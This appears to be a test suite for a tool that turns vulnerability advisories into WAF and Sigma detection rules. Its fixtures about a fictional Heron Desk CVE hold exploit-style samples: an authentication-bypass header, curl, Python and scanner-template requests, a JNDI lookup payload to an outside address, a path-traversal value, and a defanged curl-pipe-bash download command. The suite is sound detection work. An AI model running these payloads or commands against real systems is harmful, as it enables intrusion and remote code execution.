import { findEvidence, generate, type WebRequest } from '@tripline/advisory';
import { createMatcher, parseSigma, type SigmaRule } from '@tripline/sigma';
import * as fc from 'fast-check';
import { markdownAdvisory } from '../support/documents.js';

const STORY =
  '# CVE-2031-4401 in Heron Desk\n\nA vulnerability of the ticket server is exploited with one HTTP request.\n\n';

async function requestsOf(text: string): Promise<readonly WebRequest[]> {
  const { behaviours } = findEvidence(await markdownAdvisory(STORY + text));
  return behaviours.filter((each) => each.kind === 'web-request');
}

async function rulesOf(text: string, platform = 'waf-1') {
  const { rules } = generate(await markdownAdvisory(STORY + text), { targets: [] });
  return rules.filter((rule) => rule.platform === platform && rule.yaml.includes('selection'));
}

const MESSAGE = `\`\`\`
POST /desk/{queue}/attach/put?mode=import&token=84613f0a9c HTTP/1.1
Host: vulnerable-host:8080
User-Agent: Mozilla/5.0 (X11; Linux x86_64)
X-Heron-Bypass: internal
Content-Type: application/x-www-form-urlencoded

ticket=1&note=hello
\`\`\`

The parameter \`mode\` selects the importer: \`mode=import\` needs no login.
`;

describe('a request as it goes over the wire', () => {
  it('is read with its method, the pieces of its path, its parameters and its headers', async () => {
    const [request] = await requestsOf(MESSAGE);
    expect(request?.method?.text).toBe('POST');
    expect(request?.path.map(({ text }) => text)).toEqual(['/desk/', '/attach/put']);
    expect(request?.query.map(({ text }) => text)).toEqual(['mode=import', 'token=']);
    expect(request?.headers.map(({ name }) => name)).toContain('X-Heron-Bypass');
  });

  it('is a rule of method, path, parameter and header, without the host, the session and what every client sends', async () => {
    const [rule] = await rulesOf(MESSAGE);
    expect(rule?.level).toBe('high');
    expect(rule?.yaml).toContain("transaction.request.method: 'POST'");
    expect(rule?.yaml).toContain("transaction.request.headers.X-Heron-Bypass|contains: 'internal'");
    for (const part of ['/desk/', '/attach/put', 'mode=import']) expect(rule?.yaml).toContain(part);
    for (const part of ['vulnerable-host', '84613f0a9c', 'Mozilla', 'queue', 'ticket='])
      expect(rule?.yaml).not.toContain(part);
  });

  it('is looked for in the path and the query apart where the log has them apart', async () => {
    const [rule] = await rulesOf(MESSAGE, 'waf-2');
    expect(rule?.yaml).toContain("httpRequest.httpMethod: 'POST'");
    expect(rule?.yaml).toMatch(/httpRequest\.uri\|contains\|all:\s+- '\/desk\/'\s+- '\/attach\/put'/);
    expect(rule?.yaml).toContain("httpRequest.args|contains: 'mode=import'");
  });

  it('is malware’s own where it names somebody’s server as its host', async () => {
    expect(await requestsOf('```\nPOST /gate/report.php HTTP/1.1\nHost: brass-otter.net\n\nid=1\n```\n')).toEqual([]);
  });

  it.each([
    'GET /gate/report.php HTTP/1.1 Host: brass-otter.net User-Agent: Wget',
    '203.0.113.9 port 80 – brass-otter.net – GET /gate/report.php',
    'The campaigns used the URL path */gate/report.php on all servers.',
  ])('is malware’s own in one line as well: %s', async (line) => {
    expect(await requestsOf(`${line}\n`)).toEqual([]);
  });
});

describe('the same request', () => {
  it.each([
    ['a command', '```\ncurl -k -X PUT "https://target:8443/desk/admin/restore" -H "X-Heron-Bypass: internal"\n```\n'],
    [
      'a command over several lines',
      '```\n$ curl -X PUT \\\n  -H "X-Heron-Bypass: internal" \\\n  https://{{BaseURL}}/desk/admin/restore\n```\n',
    ],
    [
      'a script',
      '```python\nheaders = {"X-Heron-Bypass": "internal"}\nr = requests.put(f"{base}/desk/admin/restore", headers=headers)\n```\n',
    ],
    [
      'a scanner’s template',
      '```yaml\nhttp:\n  - raw:\n      - |\n        PUT /desk/admin/restore HTTP/1.1\n        Host: {{Hostname}}\n        X-Heron-Bypass: internal\n```\n',
    ],
  ])('is read from %s', async (_, text) => {
    const [request] = await requestsOf(text);
    expect(request?.method?.text.toUpperCase()).toBe('PUT');
    expect(request?.path.map(({ text: piece }) => piece)).toEqual(['/desk/admin/restore']);
    expect(request?.headers.find(({ name }) => name === 'X-Heron-Bypass')?.value.text).toBe('internal');
  });

  it('is read from the paths of a template', async () => {
    const [request] = await requestsOf(
      '```yaml\n  - method: PUT\n    path:\n      - "{{BaseURL}}/desk/admin/restore"\n```\n',
    );
    expect(request?.method?.text).toBe('PUT');
    expect(request?.path.map(({ text }) => text)).toEqual(['/desk/admin/restore']);
  });
});

describe('the reader’s own proof of concept', () => {
  it('is a request to the site and no command of a host', async () => {
    const { rules } = generate(
      await markdownAdvisory(`${STORY}\`\`\`\ncurl -X POST http://target/desk/admin/restore\n\`\`\`\n`),
    );
    expect(rules.map(({ platform }) => platform)).toContain('waf-1');
    expect(rules.filter(({ platform }) => platform?.startsWith('endpoint'))).toEqual([]);
  });

  it('leaves alone what is fetched from somebody’s own server', async () => {
    expect(await requestsOf('```\ncurl http://brass-otter.net/stage/put.php -o /tmp/x\n```\n')).toEqual([]);
  });
});

describe('a payload', () => {
  it('told by its parameter alone may stand in the address or in the body', async () => {
    const lookup = '$' + '{jndi:';
    const [rule] = await rulesOf(
      `The final payload is \`ticketFilter=x${lookup}ldap://198.51.100.7/a}\` and needs no login.\n`,
    );
    expect(rule?.yaml).toContain('ticketFilter=');
    expect(rule?.yaml).toContain(lookup);
    expect(rule?.yaml).toContain('transaction.request.body');
    expect(rule?.yaml).not.toContain('198.51.100.7');
  });
});

it('a rule matches the request it was made from, whatever its parts', async () => {
  const word = fc.stringMatching(/^[a-z]{4,9}$/);
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom('GET', 'POST', 'PUT'),
      fc.array(word, { minLength: 2, maxLength: 4 }),
      fc.array(fc.tuple(word, word), { maxLength: 3 }),
      async (method, path, parameters) => {
        const uri = `/zz${path.join('/')}${parameters.length === 0 ? '' : `?${parameters.map((pair) => pair.join('=')).join('&')}`}`;
        const text = `${STORY}\`\`\`\n${method} ${uri} HTTP/1.1\nHost: target\n\`\`\`\n`;
        const { rules } = generate(await markdownAdvisory(text), { targets: [], platforms: ['waf-1'] });
        expect(rules.length).toBeGreaterThan(0);
        for (const { yaml } of rules) {
          const [rule] = parseSigma(yaml).documents;
          const event = { transaction: { request: { method, uri } } };
          expect(createMatcher(rule as SigmaRule).matches(event)).toBe(true);
        }
      },
    ),
    { numRuns: 30 },
  );
});

it('a header’s value that climbs up is no path of the request', async () => {
  const rules = await rulesOf(
    '```\nPOST /desk/../queue/put.pl HTTP/1.1\nHost: desk-7\nHRN_USER: ../../../heron/portal/pages/abcd\n```\n',
  );
  expect(rules.map(({ yaml }) => yaml).join()).toContain('/desk/../queue/put.pl');
  expect(rules.map(({ yaml }) => yaml).join()).not.toContain("'/../../'");
});

describe('what little an exploit says', () => {
  it('a short path is asked for with its parameters, for longer paths begin with it', async () => {
    const [rule] = await rulesOf('The intruders exploited it by requests to /fen?remote=false on the server.');
    expect(rule?.yaml).toContain("'/fen'");
    expect(rule?.yaml).toContain('remote=false');
  });

  it('an address in the web address of a later command is no sender of requests', async () => {
    const text =
      'The intruders exploited it by requests to /desk/attach.cgi?mode=import. As desk they ran `curl -fsSL hxxp://45.9.148[.]3/j.sh | bash`.';
    const { rules } = generate(await markdownAdvisory(STORY + text), { targets: [] });
    expect(rules.some(({ title }) => title.includes('Requests From Reported Address'))).toBe(false);
    expect(rules.some(({ yaml }) => yaml.includes("DestinationIp: '45.9.148.3'"))).toBe(true);
  });
});
